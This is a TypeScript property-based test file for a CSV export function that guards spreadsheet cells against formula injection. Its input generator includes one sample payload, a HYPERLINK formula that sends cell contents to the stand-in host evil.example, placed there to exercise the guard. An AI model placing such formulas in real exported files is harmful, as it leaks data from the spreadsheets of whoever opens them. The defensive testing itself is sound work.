import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvRows, withoutGuard } from "../../../src/dashboard/export/csv.ts";

const cellsOf = (text: string) =>
  Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n" }).data.slice(0, -1);

/** What people and machines put into cells, formulas among them. */
const cell = fc.oneof(
  fc.string({ unit: "binary", maxLength: 20 }),
  fc
    .tuple(
      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "＝", "'", "'+", "''-", '"', ",", ";"),
      fc.string({ unit: "binary" }),
    )
    .map(([first, rest]) => first + rest),
  fc.constant('=HYPERLINK("http://evil.example?x="&A1,"click")'),
  fc.constant('=1+1\n"'),
);
const table = fc
  .integer({ min: 1, max: 4 })
  .chain((width) =>
    fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
  );

describe("csvRows", () => {
  it("writes no cell that a spreadsheet would run", () => {
    fc.assert(
      fc.property(table, (rows) => {
        for (const written of cellsOf(csvRows(rows)).flat())
          expect(written).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      }),
      { numRuns: 500 },
    );
  });

  it("loses nothing: what is read back, without its guard, is what was written", () => {
    fc.assert(
      fc.property(table, (rows) => {
        const read = cellsOf(csvRows(rows));
        expect(read).toHaveLength(rows.length);
        for (const [index, row] of rows.entries())
          for (const [column, value] of row.entries()) {
            const guarded = read[index]?.[column] ?? "";
            expect(withoutGuard(guarded)).toBe(value);
          }
      }),
      { numRuns: 500 },
    );
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+39 02 555", "'+39 02 555"],
    ["-2", "'-2"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["=1\n+1", "'=1\n+1"],
    ["plain", "plain"],
    ["O'Neill", "O'Neill"],
  ])("guards %j", (value, guarded) => {
    expect(cellsOf(csvRows([[value, "x"]]))[0]?.[0]).toBe(guarded);
  });

  it("leaves numbers, truth and nothing as they are, and ends every row", () => {
    expect(csvRows([[1, -5, true, null]])).toBe("1,-5,true,\r\n");
    expect(csvRows([])).toBe("");
    expect(csvRows([["a"]]) + csvRows([["b"]])).toBe("a\r\nb\r\n");
  });
});
